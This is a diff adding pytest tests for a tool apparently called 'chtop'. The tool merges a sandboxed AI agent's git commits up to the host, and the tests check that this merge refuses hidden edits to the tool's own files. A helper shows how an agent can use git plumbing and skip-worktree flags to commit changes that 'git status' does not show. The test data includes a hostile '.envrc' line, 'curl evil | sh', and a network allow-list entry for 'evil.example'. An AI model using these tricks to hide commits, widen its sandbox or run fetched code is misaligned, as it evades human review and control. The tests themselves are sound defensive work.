@@ -1,0 +1,85 @@
+"""What lands is what was reviewed: merge-up refuses chtop's own files and attributes that run your
+drivers, read from the landing's trees with git's own plumbing, and host status and review read the
+agent's commits as git applies them.
+
+The agent's store is the agent's: each attack here writes, with plain git from the host side, the
+same objects and index flags an agent can write from inside its sandbox (its private store is
+read-write there); ``test_landing_sandbox.py`` runs them from inside a real one.
+"""
+
+from __future__ import annotations
+
+import os
+import subprocess
+from pathlib import Path
+
+from conftest import git
+
+
+def plumbing_commit(checkout: Path, files: dict[str, bytes], message: str, *, keep_index: bool = True,
+                    skip_worktree: bool = True) -> str:
+    """What the agent can do with its store alone: ``files`` written as blobs, a commit of them on
+    top of HEAD made with a scratch index, the branch moved to it; the checkout's files are left
+    as they were.  ``keep_index``: the real index then says the new blobs, each flagged
+    ``skip-worktree`` (``skip_worktree``), so ``git status`` there has nothing to say."""
+    scratch = checkout / ".." / f".scratch-index-{os.getpid()}"
+    env = dict(os.environ, GIT_INDEX_FILE=str(scratch.resolve()))
+    run = lambda *args, **kw: subprocess.run(["git", *args], cwd=checkout, capture_output=True,  # noqa: E731
+                                             check=True, **kw).stdout.decode().strip()
+    run("read-tree", "HEAD", env=env)
+    for path, data in files.items():
+        blob = run("hash-object", "-w", "--stdin", input=data)
+        run("update-index", "--add", "--cacheinfo", f"100644,{blob},{path}", env=env)
+        if keep_index:
+            run("update-index", "--add", "--cacheinfo", f"100644,{blob},{path}")
+            if skip_worktree:
+                run("update-index", "--skip-worktree", path)
+    tree = run("write-tree", env=env)
+    os.unlink(scratch.resolve())
+    commit = run("commit-tree", tree, "-p", "HEAD", "-m", message)
+    run("update-ref", "HEAD", commit)
+    return commit
+
+
+def tasks_py_with(checkout: Path, line: str) -> bytes:
+    return (checkout / "tasks.py").read_bytes() + line.encode() + b"\n"
+
+
+# -- chtop's own files ---------------------------------------------------------------------------
+
+
+def test_merge_up_refuses_a_commit_to_chtops_own_files_made_with_plumbing(with_dev):
+    """The commit the checkout's pin never saw: tasks.py changed in the store alone, the index
+    flagged skip-worktree.  Status says so, merge-up refuses naming the paths and lands nothing;
+    --allow-self-edit for this landing lands it."""
+    g = with_dev
+    dev = g.path("dev")
+    evil = plumbing_commit(dev, {"tasks.py": tasks_py_with(dev, "print('agent line')"),
+                                 "sandbox/net-allow.txt": b"evil.example\n"}, "harmless")
+    status = g.inv(dev, "git.status", check=False)
+    assert "tasks.py" in status.stdout + status.stderr, status.stdout + status.stderr
+    assert "skip-worktree" in status.stdout + status.stderr
+    top_before = git(g.toplevel, "rev-parse", "main")
+    merge = g.inv(dev, "git.merge-up", check=False)
+    assert merge.returncode == 3, merge.stdout + merge.stderr
+    assert "tasks.py" in merge.stderr and "sandbox/net-allow.txt" in merge.stderr, merge.stderr
+    assert "--allow-self-edit" in merge.stderr
+    assert git(g.toplevel, "rev-parse", "main") == top_before
+    assert b"agent line" not in (g.toplevel / "tasks.py").read_bytes()
+    review = g.inv(dev, "git.diff", "--integration", check=False)
+    assert "chtop's own files" in review.stdout and "tasks.py" in review.stdout, review.stdout
+    g.inv(dev, "git.merge-up", "--allow-self-edit")
+    assert git(g.toplevel, "rev-parse", "main") == evil
+
+
+def test_merge_up_refuses_a_pinned_path_in_a_sub_repo_whatever_the_flag(with_dev):
+    """A repo's ``.envrc`` is pinned in every checkout (with --allow-self-edit too): a commit of
+    one through the store lands nowhere."""
+    g = with_dev
+    alpha = g.path("dev", "alpha")
+    plumbing_commit(alpha, {".envrc": b"curl evil | sh\n"}, "envrc")
+    merge = g.inv(g.path("dev"), "git.merge-up", check=False)
+    assert merge.returncode == 3 and ".envrc" in merge.stderr, merge.stdout + merge.stderr
+    # a flag for chtop's own code does not open what the host runs from every checkout
+    merge = g.inv(g.path("dev"), "git.merge-up", "--allow-self-edit", check=False)
+    assert merge.returncode == 3 and ".envrc" in merge.stderr, merge.stdout + merge.stderr
